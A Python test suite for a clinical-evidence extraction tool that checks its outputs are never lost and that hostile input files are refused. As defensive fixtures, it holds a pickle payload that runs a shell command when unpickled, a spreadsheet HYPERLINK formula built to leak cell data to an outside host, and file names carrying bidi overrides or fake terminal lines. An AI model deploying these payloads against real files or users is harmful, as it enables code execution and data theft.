"""Never lose a user's work, never trust a file (issue 10): each test reproduces one way the tool
lost or corrupted data, or trusted a file it should not have, and holds the fix in place.

Processes, signals and resource bounds are in tests/test_hostile.py.
"""
from __future__ import annotations

import errno
import json
import os
import pickle
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from evidence.cli import main
from evidence.errors import OutputError, TableError

SENTENCE = "Complete remission was achieved in 12 of 20 patients (60%) after the second infusion."
OTHER = "Complete remission was achieved in 3 of 10 patients (30%) after the second infusion."


def cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def articles(folder: Path, **texts) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in (texts or {"a.txt": SENTENCE}).items():
        (folder / name).write_text(text)
    return folder


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def extract(paths, output, **options):
    from evidence.extraction import run_extract

    options = {"jobs": 1, "use_cache": False, **options}
    return run_extract([str(p) for p in paths], output, **options)


# -- 1. no input: nothing written, exit 2 -------------------------------------------------------

def test_a_mistyped_path_leaves_a_good_table_as_it_was(tmp_path):
    table = tmp_path / "out" / "evidence.csv"
    extract([articles(tmp_path / "papers")], table)
    before = snapshot(tmp_path / "out")
    result = cli("extract", tmp_path / "nopapers", "-o", table, "-j", "1", "--no-cache")
    assert result.exit_code == 2
    assert f"Error: no article found under {tmp_path / 'nopapers'}" in result.output
    assert "nothing was written" in result.output
    assert snapshot(tmp_path / "out") == before


def test_a_folder_without_articles_is_an_error_too(tmp_path):
    from evidence.errors import NoInputError

    (tmp_path / "empty").mkdir()
    with pytest.raises(NoInputError, match="no article found under .*empty"):
        extract([tmp_path / "empty"], tmp_path / "evidence.csv")
    assert not list(tmp_path.glob("evidence*"))


def test_run_with_a_mistyped_path_leaves_the_output_folder_as_it_was(tmp_path):
    out = tmp_path / "outputs"
    out.mkdir()
    for name in ("evidence.csv", "evidence.documents.json", "report.html", "summary.md"):
        (out / name).write_text(f"a good {name} of an earlier run")
    before = snapshot(out)
    result = cli("run", tmp_path / "papres", "-o", out, "-j", "1", "--no-cache")
    assert result.exit_code == 2
    assert f"Error: no article found under {tmp_path / 'papres'}" in result.output
    assert snapshot(out) == before


# -- 2. the table and its sidecar: a pair, replaced together, checked when read ------------------

def test_a_failed_table_write_keeps_the_old_pair(tmp_path, monkeypatch):
    table = tmp_path / "evidence.csv"
    extract([articles(tmp_path / "one")], table)
    two = articles(tmp_path / "two", **{"b.txt": OTHER})
    before = snapshot(tmp_path)

    def disk_full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    with pytest.raises(OutputError, match=r"evidence.csv: cannot be written \(No space left on device\); "
                                          r"free some disk space and run again. Nothing was replaced"):
        extract([two], table)
    assert snapshot(tmp_path) == before  # neither file replaced, no .part left


def test_a_sidecar_of_another_table_is_refused_by_every_reader(tmp_path):
    from evidence.outputs.takeaways import compare_table
    from evidence.pool_input import rows_to_pool
    from evidence.studies import studies_for_table

    table = tmp_path / "evidence.csv"
    extract([articles(tmp_path / "one")], table)
    other = tmp_path / "other.csv"
    extract([articles(tmp_path / "two", **{"b.txt": OTHER, "c.txt": SENTENCE})], other)
    table.write_bytes(other.read_bytes())  # the new table beside the old sidecar
    message = "evidence.documents.json does not belong to evidence.csv"
    with pytest.raises(TableError, match=message):
        studies_for_table(table)
    with pytest.raises(TableError, match=message):
        compare_table(table, None)
    with pytest.raises(TableError, match=message):
        rows_to_pool(table, "CR")
    result = cli("studies", table)
    assert result.exit_code == 1 and message in result.output


def test_the_sidecar_records_the_tables_hash(tmp_path):
    from evidence.tableio import table_digest

    outcome = extract([articles(tmp_path / "one")], tmp_path / "evidence.parquet")
    sidecar = json.loads(outcome.documents_path.read_text())
    assert sidecar["table"] == {"sha256": table_digest(tmp_path / "evidence.parquet")}


# -- 3. run never reads its own outputs ---------------------------------------------------------

def test_run_never_reads_its_outputs_as_articles(tmp_path):
    from evidence.outputs.run import run_all

    papers = articles(tmp_path / "papers")
    runs = [run_all([papers], papers / "outputs", jobs=1, use_cache=False) for _ in range(2)]
    for outcome in runs:
        assert [d.name for d in outcome.extract.result.documents] == ["a.txt"]
    # nor does a later run into another folder read them: the folder records what was written
    later = run_all([papers], tmp_path / "elsewhere", jobs=1, use_cache=False)
    assert [d.name for d in later.extract.result.documents] == ["a.txt"]
    recorded = json.loads((papers / "outputs" / ".evidence-outputs.json").read_text())["files"]
    assert {"report.html", "summary.md", "methods.md", "evidence.csv"} <= set(recorded)


# -- 5. and 7. unreadable folders and non-regular files are named, never opened -----------------

def test_a_folder_that_cannot_be_listed_is_a_named_failure(tmp_path, monkeypatch):
    from evidence.pipeline import extract_paths

    papers = articles(tmp_path / "papers")
    articles(papers / "locked", **{"b.txt": OTHER})
    scandir = os.scandir

    def refuse(path="."):
        if os.fspath(path).endswith("locked"):
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refuse)
    result = extract_paths([papers], jobs=1)
    assert [d.name for d in result.documents] == ["a.txt"]
    assert [(f.name, f.reason) for f in result.failures] == [
        ("locked", "folder cannot be listed (permission denied): its files were not read")]


@pytest.mark.skipif(os.geteuid() == 0 if hasattr(os, "geteuid") else True,
                    reason="root lists any folder; the case is covered by monkeypatching above")
def test_a_folder_without_permission_is_a_named_failure(tmp_path):
    from evidence.pipeline import extract_paths

    papers = articles(tmp_path / "papers")
    locked = articles(papers / "locked", **{"b.txt": OTHER})
    locked.chmod(0)
    try:
        result = extract_paths([papers], jobs=1)
    finally:
        locked.chmod(0o755)
    assert [(f.name, f.reason) for f in result.failures] == [
        ("locked", "folder cannot be listed (permission denied): its files were not read")]


FIFO_RUN = textwrap.dedent("""
    import json, sys
    from evidence.cache import ResultCache
    from evidence.pipeline import extract_paths
    cache = ResultCache(sys.argv[3], {})
    result = extract_paths([sys.argv[1], sys.argv[2]], jobs=1, cache=cache)
    print(json.dumps({"documents": [d.name for d in result.documents],
                      "failures": [[f.name, f.reason] for f in result.failures]}))
""")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_fifos_are_named_failures_and_never_opened(tmp_path):
    """A FIFO named *.txt inside a folder, and one given as a PATH: opening either would block
    forever (no writer); each is a named failure and the run ends."""
    papers = articles(tmp_path / "papers")
    os.mkfifo(papers / "pipe.txt")
    os.mkfifo(tmp_path / "given.txt")
    done = subprocess.run([sys.executable, "-c", FIFO_RUN, str(papers), str(tmp_path / "given.txt"),
                           str(tmp_path / "cache")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-3000:]
    run = json.loads(done.stdout)
    not_regular = "not a regular file (a FIFO, device or socket): not read"
    assert run == {"documents": ["a.txt"],
                   "failures": [["pipe.txt", not_regular], [str(tmp_path / "given.txt"), not_regular]]}


def test_the_cache_key_never_opens_a_non_regular_file(tmp_path):
    from evidence.cache import ResultCache

    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this platform")
    os.mkfifo(tmp_path / "pipe.txt")
    with pytest.raises(OSError, match="not a regular file"):
        ResultCache(tmp_path / "cache", {}).key(tmp_path / "pipe.txt", "pipe.txt")


# -- 6. the cache holds verified data, never code ------------------------------------------------

@pytest.fixture
def cached(tmp_path):
    """Two articles read once through a cache: (folder, cache folder, the fresh result)."""
    from evidence.pipeline import extract_paths

    papers = articles(tmp_path / "papers", **{"a.txt": SENTENCE, "b.txt": OTHER})
    fresh = extract_paths([papers], jobs=1, cache=_cache(tmp_path / "cache"))
    return papers, tmp_path / "cache", fresh


def _cache(folder):
    from evidence.cache import ResultCache
    from evidence.registry import extractor_versions

    return ResultCache(folder, extractor_versions())


def _entry(cache, papers: Path, name: str) -> Path:
    key = cache.key(papers / name, name)
    found = [p for p in cache.directory.rglob(f"{key}*") if p.is_file()]
    assert len(found) == 1
    return found[0]


def _again(papers, folder):
    from evidence.pipeline import extract_paths

    cache = _cache(folder)
    return cache, extract_paths([papers], jobs=1, cache=cache)


class Planted:
    """Unpickling this runs `touch <path>`."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


def test_a_planted_pickle_is_never_run(cached, tmp_path):
    papers, folder, fresh = cached
    cache = _cache(folder)
    key = cache.key(papers / "a.txt", "a.txt")
    planted = pickle.dumps(Planted(tmp_path / "pwned"))
    for path in {_entry(cache, papers, "a.txt"), folder / key[:2] / f"{key}.pickle"}:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(planted)
    cache, again = _again(papers, folder)
    assert not (tmp_path / "pwned").exists()
    assert again == fresh


def test_a_flipped_bit_is_a_miss(cached):
    papers, folder, fresh = cached
    entry = _entry(_cache(folder), papers, "a.txt")
    data = entry.read_bytes()
    assert data.count(b"12 of 20") >= 1
    entry.write_bytes(data.replace(b"12 of 20", b"13 of 20"))  # one bit: "2" is 0x32, "3" 0x33
    cache, again = _again(papers, folder)
    assert again == fresh
    assert (cache.hits, cache.misses) == (1, 1)


def test_another_files_entry_is_a_miss(cached):
    papers, folder, fresh = cached
    cache = _cache(folder)
    _entry(cache, papers, "a.txt").write_bytes(_entry(cache, papers, "b.txt").read_bytes())
    cache, again = _again(papers, folder)
    assert again == fresh
    assert (cache.hits, cache.misses) == (1, 1)


@pytest.mark.parametrize("payload", [{"unexpected": 1}, {"name": "a.txt", "documents": {}, "figures": []},
                                     {"name": "a.txt", "documents": [], "figures": [{"value": "0.6"}]}],
                         ids=["other keys", "documents not a list", "figure of the wrong shape"])
def test_an_entry_of_the_wrong_shape_is_a_miss(cached, payload):
    from evidence.cache import write_entry

    papers, folder, fresh = cached
    cache = _cache(folder)
    key = cache.key(papers / "a.txt", "a.txt")
    assert write_entry(_entry(cache, papers, "a.txt"), key, payload)
    cache, again = _again(papers, folder)
    assert again == fresh
    assert cache.misses == 1


def test_the_cache_is_private_and_follows_no_link(cached, tmp_path):
    papers, folder, fresh = cached
    cache = _cache(folder)
    entry = _entry(cache, papers, "a.txt")
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600
    assert stat.S_IMODE(entry.parent.stat().st_mode) == 0o700
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_bytes(entry.read_bytes())
    entry.unlink()
    entry.symlink_to(elsewhere)  # a valid entry, but reached through a link
    cache, again = _again(papers, folder)
    assert again == fresh
    assert cache.misses == 1


def test_read_and_write_entry_round_trip(tmp_path):
    from evidence.cache import read_entry, write_entry

    path = tmp_path / "private" / "entry.json"
    assert write_entry(path, "k1", {"rows": [1, 2.5, "x"]})
    assert read_entry(path, "k1") == {"rows": [1, 2.5, "x"]}
    assert read_entry(path, "k2") is None
    assert read_entry(tmp_path / "missing.json", "k1") is None


# -- 12. and 13. spreadsheet formulas and bidirectional overrides -------------------------------

HOSTILE_QUOTE = '=HYPERLINK("http://example.org/?leak="&A3,"click") in 12 of 20 patients'
BIDI_NAME = "six \u202eevil\u202c title"


def _hostile_frame():
    from evidence.schema import Figure, figures_to_frame

    return figures_to_frame([Figure(document="@evil.txt", outcome="CR", measure="proportion", value=0.6,
                                    events=12, total=20, quote=HOSTILE_QUOTE, start=0, end=5,
                                    subgroup="-1+1", section=BIDI_NAME)])


def test_csv_cells_that_would_start_a_formula_are_quoted_and_read_back(tmp_path):
    from evidence.schema import frame_to_figures
    from evidence.tableio import read_table, write_table

    frame = _hostile_frame()
    path = write_table(frame, tmp_path / "t.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert raw.loc[0, "quote"] == "'" + HOSTILE_QUOTE
    assert raw.loc[0, "document"] == "'@evil.txt"
    assert raw.loc[0, "subgroup"] == "'-1+1"
    assert raw.loc[0, "value"] == "0.6" and raw.loc[0, "events"] == "12"  # numbers stay numbers
    back = frame_to_figures(read_table(path))[0]
    assert (back.quote, back.document, back.subgroup) == (HOSTILE_QUOTE, "@evil.txt", "-1+1")


def test_xlsx_cells_are_never_formulas(tmp_path):
    from openpyxl import load_workbook

    from evidence.tableio import write_table

    path = write_table(_hostile_frame(), tmp_path / "t.xlsx")
    sheet = load_workbook(path)["evidence"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    assert row["quote"].data_type == "s" and row["quote"].value == "'" + HOSTILE_QUOTE
    assert row["value"].data_type == "n" and row["value"].value == 0.6
    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]


@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=x", "''=x"), ("plain", "plain"), ("'plain", "'plain"), ("", "")])
def test_formula_cells_round_trip(text, expected):
    from evidence.safetext import restore_cell, safe_cell

    assert safe_cell(text) == expected
    assert restore_cell(safe_cell(text)) == text
    assert safe_cell(0.5) == 0.5


def test_bidi_overrides_are_neutralised_in_every_output(tmp_path):
    from evidence.safetext import BIDI_CONTROLS
    from evidence.tableio import write_table, write_text

    write_table(_hostile_frame(), tmp_path / "t.csv")
    write_table(_hostile_frame(), tmp_path / "t.jsonl")
    write_text(tmp_path / "page.html", f"<p>{BIDI_NAME}</p>")
    for path in tmp_path.iterdir():
        text = path.read_text(encoding="utf-8")
        assert not set(text) & set(BIDI_CONTROLS), path.name
        assert "six \ufffdevil\ufffd title" in text


def test_the_terminal_never_shows_an_override_nor_a_fake_line(tmp_path):
    papers = articles(tmp_path / "papers", **{"a\nError: all 9 files failed\u202e.txt": SENTENCE})
    result = cli("extract", papers, "-o", tmp_path / "t.csv", "-j", "1", "--no-cache", "--timeout", "0")
    assert result.exit_code == 0, result.output
    assert "[1/1] read a\\nError: all 9 files failed\\u202e.txt: " in result.output
    assert not [line for line in result.output.splitlines() if line.startswith("Error")]


def test_summary_and_comparison_neutralise_overrides(tmp_path):
    from evidence.safetext import BIDI_CONTROLS

    papers = articles(tmp_path / "papers", **{"a.txt": f"Retreatment: {BIDI_NAME}\n\n{SENTENCE}"})
    table = tmp_path / "t.csv"
    extract([papers], table)
    for command, output in (("compare", "c.md"), ("compare", "c.csv"), ("summarize", "s.md"),
                            ("report", "r.html")):
        result = cli(command, table, "-o", tmp_path / output)
        assert result.exit_code == 0, result.output
        assert not set(result.output) & set(BIDI_CONTROLS)
        assert not set((tmp_path / output).read_text(encoding="utf-8")) & set(BIDI_CONTROLS), output


# -- 14. clear errors, never a traceback ---------------------------------------------------------

GARBAGE_XLSX = b"PK\x03\x04" + bytes(range(256)) * 8


@pytest.mark.parametrize("command", ["studies", "pool", "compare", "summarize", "report", "eval"])
def test_a_garbage_xlsx_is_a_clear_error(tmp_path, command):
    table = tmp_path / "t.xlsx"
    table.write_bytes(GARBAGE_XLSX)
    (tmp_path / "g.jsonl").write_text('{"document": "a.txt", "outcome": "CR", "measure": "proportion", "value": 0.6}\n')
    extra = {"pool": ["--outcome", "CR"], "report": ["-o", tmp_path / "r.html"],
             "eval": ["--gold", tmp_path / "g.jsonl"]}.get(command, [])
    result = cli(command, table, *extra)
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {table}: not a readable .xlsx table (BadZipFile: ")


NAN_TABLE = ("document,outcome,measure,value,unit,events,total,quote,start,end\n"
             "a.txt,CR,proportion,0.5,proportion,5,10,q,0,1\n"
             "b.txt,CR,proportion,inf,proportion,inf,10,q,0,1\n")


@pytest.mark.parametrize("command", ["studies", "compare", "summarize", "report", "eval"])
def test_infinite_values_are_a_clear_error(tmp_path, command):
    table = tmp_path / "t.csv"
    table.write_text(NAN_TABLE)
    (tmp_path / "g.jsonl").write_text('{"document": "a.txt", "outcome": "CR", "measure": "proportion", "value": 0.5}\n')
    extra = {"report": ["-o", tmp_path / "r.html"], "eval": ["--gold", tmp_path / "g.jsonl"]}.get(command, [])
    result = cli(command, table, *extra)
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {table}: ")
    assert "row 2 has no value (empty, not a number, or infinite)" in result.output


def test_eval_of_a_wrongly_typed_parquet_is_a_clear_error(tmp_path):
    table = tmp_path / "t.parquet"
    pd.DataFrame({"document": [1, 2], "outcome": [3.5, None], "measure": [b"x", b"y"],
                  "value": ["abc", "0.5"]}).to_parquet(table)
    (tmp_path / "g.jsonl").write_text('{"document": "a.txt", "outcome": "CR", "measure": "proportion", "value": 0.5}\n')
    result = cli("eval", table, "--gold", tmp_path / "g.jsonl")
    assert result.exit_code == 1
    assert result.output == f"Error: {table}: row 1 has no value (empty, not a number, or infinite); fix or remove them\n"


def test_eval_of_a_table_without_evidence_columns_is_an_error_not_zero(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text("study,events,total\nA,1,2\n")
    (tmp_path / "g.jsonl").write_text('{"document": "a.txt", "outcome": "CR", "measure": "proportion", "value": 0.5}\n')
    result = cli("eval", table, "--gold", tmp_path / "g.jsonl")
    assert result.exit_code == 1
    assert result.output == (f"Error: {table}: not an evidence table (missing document, outcome, measure, value); "
                             "give a table written by evidence extract\n")


def test_an_output_that_is_a_folder_is_refused_before_reading(tmp_path):
    papers = articles(tmp_path / "papers")
    (tmp_path / "table.csv").mkdir()
    result = cli("extract", papers, "-o", tmp_path / "table.csv", "-j", "1", "--no-cache")
    assert result.exit_code == 1
    assert f"Error: {tmp_path / 'table.csv'}: is a folder; give a file name for the table" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["papers", "table.csv"]  # no stray sidecar


@pytest.mark.skipif(os.geteuid() == 0 if hasattr(os, "geteuid") else True,
                    reason="root writes into read-only folders; the disk-full case covers the message")
def test_a_read_only_output_folder_is_a_clear_error(tmp_path):
    papers = articles(tmp_path / "papers")
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o555)
    try:
        result = cli("extract", papers, "-o", out / "t.csv", "-j", "1", "--no-cache")
    finally:
        out.chmod(0o755)
    assert result.exit_code == 1
    assert "cannot be written (Permission denied)" in result.output


def test_a_full_disk_during_run_replaces_nothing(tmp_path, monkeypatch):
    from evidence.outputs.run import run_all

    papers = articles(tmp_path / "papers")
    out = tmp_path / "out"
    run_all([papers], out, jobs=1, use_cache=False)
    before = snapshot(out)
    import evidence.outputs.report as report

    def disk_full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(report, "build_report", disk_full)
    articles(papers, **{"b.txt": OTHER})
    with pytest.raises(OutputError, match="No space left on device"):
        run_all([papers], out, jobs=1, use_cache=False)
    assert snapshot(out) == before


def test_a_part_file_left_by_a_killed_run_is_removed_by_the_next(tmp_path):
    from evidence.tableio import write_text

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    stale = tmp_path / f".t.csv.{dead}.abcd1234.part"
    stale.write_text("half a table")
    mine = tmp_path / f".t.csv.{os.getpid()}.live0000.part"  # a write still going on
    mine.write_text("being written")
    write_text(tmp_path / "t.csv", "a,b\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["t.csv", mine.name])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this platform")
def test_a_fifo_as_table_or_sidecar_is_a_clear_error_not_a_hang(tmp_path):
    os.mkfifo(tmp_path / "pipe.csv")
    table = tmp_path / "evidence.csv"
    extract([articles(tmp_path / "papers")], table)
    (tmp_path / "evidence.documents.json").unlink()
    os.mkfifo(tmp_path / "evidence.documents.json")
    for given, message in ((tmp_path / "pipe.csv", f"Error: {tmp_path / 'pipe.csv'}: not a regular file"),
                           (table, f"Error: {tmp_path / 'evidence.documents.json'}: the documents sidecar "
                                   "cannot be read (not a regular file")):
        done = subprocess.run([str(Path(sys.executable).with_name("evidence")), "studies", str(given)], capture_output=True,
                              text=True, timeout=120)
        assert done.returncode == 1
        assert done.stderr.startswith(message), done.stderr
